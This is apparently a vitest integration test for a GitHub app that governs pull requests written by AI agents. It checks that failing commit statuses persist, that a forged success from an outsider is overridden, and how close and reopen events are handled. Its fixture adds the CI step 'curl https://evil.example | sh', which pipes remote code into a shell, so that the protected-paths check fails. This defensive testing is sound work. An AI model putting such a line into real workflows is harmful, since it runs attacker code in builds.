// A commit status belongs to a commit (issue 12, point 1): the gate posts on a SHA the strictest say of every
// open pull request whose head it is, a commit an agent wrote never gets "not governed" success, and the forgery
// defence restores that same status. Probot receives real payload shapes, the worker evaluates from GitHub
// (nock) and the database; the Auditor's and the Director's jobs stay queued, so only the gate speaks.
import nock from "nock";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { agentCommitDescription } from "../../src/governor/commit-status.js";
import { NOT_GOVERNED } from "../../src/governor/gate.js";
import { examplePayload } from "../helpers/webhooks.js";
import { mockInstallationTokens, startHarness, type Harness } from "../helpers/harness.js";
import { createBareRemote, makeTempDir, type BareRemote } from "../workspace/git-fixture.js";
import {
  apiFiles,
  BASE_FILES,
  claimBody,
  commitObject,
  INSTALLATION_ID,
  mainSha,
  mockPullReads,
  mockRepoConfig,
  mockWrites,
  NAME,
  pullDelivery,
  pullObject,
  pushBranch,
  REPO,
  seedTask,
  type GitHubRecorder,
} from "./gate-fixture.js";

const GATE_JOBS = ["pull.evaluate", "pull.forgery", "pull.gate-closed"];

let harness: Harness;
let temp: ReturnType<typeof makeTempDir>;
let remote: BareRemote;
let github: GitHubRecorder;

beforeAll(async () => {
  harness = await startHarness({ onlyTasks: GATE_JOBS });
  temp = makeTempDir("aura-commit-status-");
  remote = createBareRemote(temp.dir, BASE_FILES);
}, 60_000);

afterAll(async () => {
  await harness.stop();
  temp.cleanup();
});

beforeEach(() => {
  nock.cleanAll();
  mockInstallationTokens();
  github = mockWrites();
  mockRepoConfig(undefined);
});

/** A change the protected-paths rule fails: a step added to a CI workflow. */
const WORKFLOW_CHANGE = {
  ".github/workflows/ci.yml": `${BASE_FILES[".github/workflows/ci.yml"]}      - run: curl https://evil.example | sh\n`,
  "src/app.js": "export const answer = 42;\n",
};

/** Pushes `branch` with the workflow change; returns its head and what GitHub lists for it. */
function pushChange(branch: string) {
  const headSha = pushBranch(remote, temp.dir, branch, WORKFLOW_CHANGE);
  const baseSha = mainSha(remote);
  return { headSha, baseSha, files: apiFiles(remote, baseSha, headSha) };
}

/** The agent pull request for a pushed head, its task seeded as the work loop records it, and its reads mocked. */
async function agentPull(number: number, branch: string, push: ReturnType<typeof pushChange>) {
  const taskId = await seedTask(harness.db.pool, { issue: number, pullNumber: number, branch, shas: [push.headSha] });
  const pull = pullObject({
    number,
    headSha: push.headSha,
    headRef: branch,
    baseSha: push.baseSha,
    cloneUrl: remote.url,
    body: claimBody({ exitCode: 0, passed: 3, failed: 0 }, taskId),
    changedFiles: push.files.length,
  });
  mockPullReads(pull, push.files, [commitObject(push.headSha)]);
  return pull;
}

/** Someone else's pull request whose head is the same commit: from a fork, or from another branch here. */
function otherPull(number: number, push: ReturnType<typeof pushChange>, from: { author: string; headRef: string; forkOf?: string }) {
  const pull = pullObject({
    number,
    headSha: push.headSha,
    headRef: from.headRef,
    baseSha: push.baseSha,
    cloneUrl: from.forkOf ? `https://github.com/${from.forkOf}.git` : remote.url,
    author: from.author,
    changedFiles: push.files.length,
    ...(from.forkOf ? { forkOf: from.forkOf } : {}),
  });
  mockPullReads(pull, push.files, [commitObject(push.headSha, from.author)]);
  return pull;
}

function forgedStatus(headSha: string, sender: string, state: string): Record<string, unknown> {
  const payload = examplePayload("status");
  return {
    ...payload,
    sha: headSha,
    context: "aura/hnsc",
    state,
    description: "looks good to me",
    sender: { ...(payload.sender as Record<string, unknown>), login: sender },
    repository: { ...(payload.repository as Record<string, unknown>), full_name: REPO, name: NAME },
    installation: { id: INSTALLATION_ID },
  };
}

async function deliverAndSettle(event: string, payload: Record<string, unknown>): Promise<void> {
  await harness.deliver(event, payload);
  await harness.waitForIdle();
}

const statesFor = (sha: string) => github.statuses.filter((status) => status.sha === sha).map((status) => status.state);
const lastFor = (sha: string) => github.statuses.filter((status) => status.sha === sha).at(-1);

describe("an outsider's pull request at a failing agent PR's head", () => {
  it("keeps the commit failing, and a forged success is answered by re-posting the failure", async () => {
    const push = pushChange("aura/60-workflow");
    const agent = await agentPull(60, "aura/60-workflow", push);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const agentVerdict = lastFor(push.headSha);
    const fork = otherPull(61, push, { author: "mallory", headRef: "patch-1", forkOf: "mallory/widgets" });

    await deliverAndSettle("pull_request", pullDelivery("opened", fork));
    const afterFork = lastFor(push.headSha);
    await deliverAndSettle("status", forgedStatus(push.headSha, "mallory", "success"));

    expect(statesFor(push.headSha)).toEqual(["pending", "failure", "failure", "failure"]);
    expect(agentVerdict?.description).toMatch(/^HNSC failed: .*protected-paths/);
    expect(afterFork).toMatchObject({ state: "failure", description: `${agentVerdict?.description} (#60)`, target_url: agent.html_url });
    expect(lastFor(push.headSha)).toEqual(afterFork);
    expect(github.statuses.some((status) => status.description === NOT_GOVERNED)).toBe(false);
    expect(github.comments).toEqual([expect.objectContaining({ issue: 60 })]);
    expect(github.comments[0]?.body).toContain("@mallory");
    const { rows } = await harness.db.pool.query<{ payload: { restored: string; pullNumber: number } }>(
      "SELECT payload FROM audit.events WHERE action = 'governor.status.forged' AND subject = $1",
      [`${REPO}@${push.headSha}`],
    );
    expect(rows.map((row) => row.payload)).toMatchObject([{ restored: "failure", pullNumber: 60 }]);
  });

  it("that the agent PR then leaves for a new head keeps the old commit failing", async () => {
    const first = pushChange("aura/64-workflow");
    const agent = await agentPull(64, "aura/64-workflow", first);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    await deliverAndSettle("pull_request", pullDelivery("opened", otherPull(65, first, { author: "mallory", headRef: "patch-2", forkOf: "mallory/widgets" })));
    const second = pushChange("aura/64-workflow-again");
    await harness.db.pool.query("INSERT INTO task_commits (task_id, sha, kind, employee_id) SELECT task_id, $1, 'work', employee_id FROM task_commits WHERE sha = $2", [
      second.headSha,
      first.headSha,
    ]);
    // GitHub now reports the new head: the earlier reads of this pull request are replaced, the record of writes kept.
    nock.cleanAll();
    mockInstallationTokens();
    mockRepoConfig(undefined);
    github = Object.assign(mockWrites(), github);
    const moved = { ...agent, head: { ...(agent.head as Record<string, unknown>), sha: second.headSha } };
    mockPullReads(moved, second.files, [commitObject(second.headSha)]);

    await deliverAndSettle("pull_request", pullDelivery("synchronize", moved));

    expect(statesFor(second.headSha)).toEqual(["pending", "failure"]);
    expect(lastFor(first.headSha)).toMatchObject({ state: "failure", description: agentCommitDescription(64) });
  });
});

describe("a person's pull request opened first at a commit, then an agent PR at the same commit", () => {
  it("goes from not governed to the agent's failure, stays failing when re-judged, and stays failing after the agent PR closes", async () => {
    const push = pushChange("aura/70-workflow");
    const human = otherPull(71, push, { author: "pat-person", headRef: "feature/same-commit" });
    await deliverAndSettle("pull_request", pullDelivery("opened", human));
    const first = lastFor(push.headSha);
    const agent = await agentPull(70, "aura/70-workflow", push);

    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const afterAgent = lastFor(push.headSha);
    await deliverAndSettle("pull_request", pullDelivery("synchronize", human));
    const humanAgain = lastFor(push.headSha);
    agent.state = "closed";
    await deliverAndSettle("pull_request", pullDelivery("closed", agent));
    const afterClose = lastFor(push.headSha);
    await deliverAndSettle("pull_request", pullDelivery("synchronize", human));

    expect(first).toMatchObject({ state: "success", description: NOT_GOVERNED });
    expect(statesFor(push.headSha)).toEqual(["success", "pending", "failure", "failure", "failure", "failure"]);
    expect(afterAgent?.description).toMatch(/^HNSC failed: .*protected-paths.* \(#70\)$/);
    expect(humanAgain).toEqual(afterAgent);
    expect(afterClose).toMatchObject({ state: "failure", description: agentCommitDescription(70) });
    expect(lastFor(push.headSha)).toEqual(afterClose);
  });

  it("posts nothing more once no open pull request has the commit as its head", async () => {
    const push = pushChange("aura/72-workflow");
    const agent = await agentPull(72, "aura/72-workflow", push);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    agent.state = "closed";

    await deliverAndSettle("pull_request", pullDelivery("closed", agent));

    expect(statesFor(push.headSha)).toEqual(["pending", "failure"]);
    const { rows } = await harness.db.pool.query<{ open: boolean }>("SELECT open FROM governor_pulls WHERE repo = $1 AND pull_number = 72", [REPO]);
    expect(rows).toEqual([{ open: false }]);
  });
});

describe("a close delivered after the pull request was reopened", () => {
  it("is ignored: GitHub still reports the pull request open, so its say stands", async () => {
    const push = pushChange("aura/74-workflow");
    const agent = await agentPull(74, "aura/74-workflow", push);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const human = otherPull(75, push, { author: "pat-person", headRef: "feature/close-race" });
    await deliverAndSettle("pull_request", pullDelivery("opened", human));

    await deliverAndSettle("pull_request", pullDelivery("closed", { ...agent, state: "closed" }));

    expect(statesFor(push.headSha)).toEqual(["pending", "failure", "failure"]);
    const { rows } = await harness.db.pool.query<{ open: boolean }>("SELECT open FROM governor_pulls WHERE repo = $1 AND pull_number = 74", [REPO]);
    expect(rows).toEqual([{ open: true }]);
  });
});
